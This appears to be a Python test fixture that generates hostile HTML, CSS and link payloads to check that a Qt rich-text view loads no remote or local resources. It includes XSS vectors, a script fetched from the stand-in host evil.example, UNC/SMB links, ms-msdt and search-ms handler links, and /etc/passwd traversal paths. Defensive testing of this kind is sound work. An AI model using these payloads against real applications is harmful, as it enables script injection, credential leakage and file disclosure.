"""A deterministic corpus of hostile comment bodies for the UI security tests.

Every body tries to make a Qt rich-text view touch something it must not: a canary HTTP
server, canary files (regular files and FIFOs, which hang a reader forever), relative and
UNC paths, script and local-handler schemes. Built from payload templates × targets, plus
size, nesting and encoding extremes (notes/reliability-security.md §1.5, T5).
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from pathlib import Path

__all__ = ["hostile_bodies", "hostile_hrefs", "resource_bodies"]

# {t} is the target URL/path; templates cover every way HTML or CSS can name a resource.
_TEMPLATES: tuple[str, ...] = (
    '<img src="{t}">',
    "<img src='{t}' onerror=\"alert(1)\">",
    "<img src={t} alt=x>",
    '<IMG SRC="{t}">',
    '<img srcset="{t} 2x" src="{t}">',
    '<img src="x" onerror="this.src=\'{t}\'">',
    '<a href="{t}">click</a>',
    '<a href="{t}"><img src="{t}"></a>',
    '<A HREF="{t}" onclick="alert(1)">x</A>',
    '<a href=" {t} ">spaced</a>',
    '<a href="{t}" style="color:red">styled</a>',
    '<div style="background:url({t})">bg</div>',
    "<span style=\"background-image:url('{t}')\">bg</span>",
    '<p style="list-style-image:url({t})">li</p>',
    '<ul><li style="list-style-image:url(&quot;{t}&quot;)">x</li></ul>',
    "<style>body {{ background: url({t}); }}</style>styled",
    '<style>@import url("{t}");</style>imported',
    '<link rel="stylesheet" href="{t}">linked',
    '<table background="{t}"><tr><td background="{t}">cell</td></tr></table>',
    '<body background="{t}">body</body>',
    '<svg onload="alert(1)"><image href="{t}"/></svg>',
    '<svg><use xlink:href="{t}#x"/></svg>',
    '<input type="image" src="{t}">',
    '<video poster="{t}"><source src="{t}"></video>',
    '<audio src="{t}"></audio>',
    '<object data="{t}"></object><embed src="{t}">',
    '<iframe src="{t}"></iframe>',
    '<frameset><frame src="{t}"></frameset>',
    '<base href="{t}"><img src="x.png">',
    '<meta http-equiv="refresh" content="0;url={t}">',
    '<form action="{t}"><button formaction="{t}">go</button></form>',
    "![image]({t})",
    "<p>[link]({t})</p>",
    '<math><mi xlink:href="{t}">m</mi></math>',
    '<img src="{t}"/><script>document.location="{t}"</script>',
    '<div><p><b><i><img src="{t}"></i></b></p></div>',
)

_SCRIPT_PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">j</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">j</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">j</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">j</a>",
    "<a href=\"java\nscript:alert(1)\">j</a>",
    "<a href=\" javascript:alert(1)\">j</a>",
    "<a href=\"vbscript:msgbox(1)\">v</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">d</a>",
    "<a href=\"ms-msdt:/id PCWDiagnostic\">m</a>",
    "<a href=\"search-ms:query=x&crumb=location:\\\\evil.example\\share\">s</a>",
    "<a href=\"smb://evil.example/share\">smb</a>",
    "<a href=\"ssh://evil.example\">ssh</a>",
    "<a href=\"https://intranet.example@evil.example/\">phish</a>",
    "<a href=\"http://\u202eelpmaxe.live/\">bidi</a>",
    "<a href=\"https:evil.example\">no slashes</a>",
    "<a href=\"http:\\\\evil.example\\x\">backslashes</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<div onmouseover=\"alert(1)\" style=\"width:100%;height:100%\">hover</div>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<a href=\"#\" onclick=\"alert(1)\">hash</a>",
    "<p class=\"x\" id=\"y\" title=\"t\" dir=\"rtl\" lang=\"x\">attrs</p>",
    "<span style=\"font-size:100000px\">big</span>",
    "<font size=\"100\" color=\"red\">font</font>",
    "<h1 style=\"position:fixed;top:0\">overlay</h1>",
    "<qt type=detail><img src=\":/qt-project.org/styles/commonstyle/images/up-16.png\"></qt>",
    "<img src=\"qrc:/qt-project.org/x.png\">",
    "<img src=\":/x.png\">",
)


def _targets(canary_paths: Sequence[Path], canary_url: str) -> list[str]:
    base = canary_url.rstrip("/")
    targets = [f"{base}/img.png", f"{base}/style.css", f"{base}/?q=<x>&r=\"1\""]
    for path in canary_paths:
        posix = Path(path).as_posix()
        targets += [
            f"file://{posix}",
            f"FILE://{posix}",
            f"file:{posix}",
            posix,                                  # absolute, no scheme
            f"//localhost{posix}",                  # protocol-relative
            f"{posix}?x=1#y",
        ]
    targets += [
        "/etc/passwd",
        "../../../../etc/passwd",
        "etc/hostname",
        "//evil.example/x.png",
        "\\\\evil.example\\share\\x.png",
        "\\\\127.0.0.1\\c$\\x.png",
        "file://evil.example/share/x.png",
        ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
         "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="),
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "javascript:alert(document.domain)",
        "vbscript:msgbox(1)",
        "smb://evil.example/share/x.png",
    ]
    return targets


def _extremes(canary_url: str, rng: random.Random) -> list[str]:
    base = canary_url.rstrip("/")
    paragraph = ('<p>Lorem ipsum <b>dolor</b> sit amet, '
                 '<a href="https://intranet.example/">ok</a>.</p>')
    bad_utf8 = bytes(rng.randrange(256) for _ in range(4096))
    items = [
        paragraph * (1_000_000 // len(paragraph) + 1),                      # > 1 MB of HTML
        "x" * 1_048_576,                                                    # 1 MB of text
        "<div>" * 5000 + "deep" + "</div>" * 5000,
        "<blockquote>" * 5000 + "deep",                                     # unclosed
        "<b><i><u>" * 2000 + "deep",
        "<ul><li>" * 5000 + "deep list",
        "<a href=\"https://intranet.example/\">" * 5000 + "nested anchors",
        b"<p>broken \xff\xfe\xc3\x28 utf-8 \xe2\x82</p>".decode("utf-8", "surrogateescape"),
        bad_utf8.decode("utf-8", "surrogateescape"),
        "<p>lone \ud800 and \udfff surrogates</p><a href=\"https://a.example/\ud83d\">x</a>",
        "\ud83d\ude00 then a broken pair \ude00\ud83d",
        "<p>\u202egnp.exe</p><a href=\"https://intranet.example/\">\u202etxt.exe\u202c</a>",
        ("<p>\u2066isolate\u2069 \u2067rtl\u2069 \u2068fs\u2069 "
         "\u202aLRE\u202c \u202bRLE\u202c \u202dLRO\u202c</p>"),
        "<p>zero\u200bwidth\u200cjoin\u200d\u2060word\ufeffjoiner</p>",
        "<a href=\"https://intra\u200bnet.example/\">zw in href</a>",
        "<p>" + "".join(f'<a href="https://intranet.example/{i}">l{i}</a> '
                        for i in range(20_000)) + "</p>",
        "<p>" + "".join(f"<a href=\"{base}/{i}\">c{i}</a> " for i in range(20_000)) + "</p>",
        "<p>" + "<img src=\"" + base + "/many.png\">" * 20_000 + "</p>",
        "\x00\x01\x02<p>\x07bell\x1b[31mansi\x7f</p>\x85\x9f",
        "<p>" + "&#0;&#x0;&#xD800;&#xFFFF;&#x110000;&#1114112;&amp;&lt;&gt;" * 50 + "</p>",
        "<" * 10_000 + ">" * 10_000,
        "<p " + "a=b " * 10_000 + ">many attrs</p>",
        "<p title=\"" + "\"" * 5000 + "\">quotes</p>",
        "",
        " ",
        "<",
        "&",
        "</p></div></body></html>",
        "<!DOCTYPE html><html><head><title>t</title></head><body>doc</body></html>",
    ]
    return items


def resource_bodies(canary_paths: Sequence[Path], canary_url: str) -> list[str]:
    """The small bodies that name resources or scripts: every template × target, then the
    script and scheme payloads. Cheap enough to render even without sanitising."""
    targets = _targets(canary_paths, canary_url)
    bodies = [template.format(t=target) for template in _TEMPLATES for target in targets]
    return bodies + list(_SCRIPT_PAYLOADS)


def hostile_bodies(canary_paths: Sequence[Path], canary_url: str, *, seed: int = 1729) -> list[str]:
    """At least 1,000 hostile bodies aimed at the given canary files and canary http URL.

    Deterministic for the same arguments and seed. `canary_paths` may include FIFOs.
    """
    rng = random.Random(seed)
    bodies = resource_bodies(canary_paths, canary_url)
    naming = bodies[: len(_TEMPLATES) * len(_targets(canary_paths, canary_url))]
    # Mixed documents: a few payloads glued into ordinary text, as they would arrive.
    for _ in range(200):
        parts = rng.sample(naming, 3)
        script = rng.choice(_SCRIPT_PAYLOADS)
        bodies.append(f"<p>Hello team,</p>{parts[0]}<p>{script}</p>{parts[1]}<br>{parts[2]}")
    bodies += _extremes(canary_url, rng)
    return bodies


def hostile_hrefs(canary_paths: Sequence[Path], canary_url: str) -> list[str]:
    """Link targets a click could deliver (for anchorClicked tests): every target plus schemes."""
    hrefs = _targets(canary_paths, canary_url)
    hrefs += [
        "ms-msdt:/id PCWDiagnostic", "search-ms:query=x", "smb://evil.example/s", "ssh://h",
        "ftp://evil.example/x", "news:comp.x", "tel:+4712345678", "sms:+4712345678",
        "magnet:?xt=urn:btih:x", "irc://evil.example", "jar:file:///x!/y", "about:blank",
        "https://intranet.example@evil.example/", "http:evil.example", "https:///x",
        "mailto:", "mailto:@", "https://intra\u200bnet.example/", "http://\u202eelpmaxe/",
        "https://ok.example/ path", "\thttps://ok.example/", "#anchor", "?q=1", "",
        "https://[::1/", "http://host:99999/",
    ]
    return hrefs
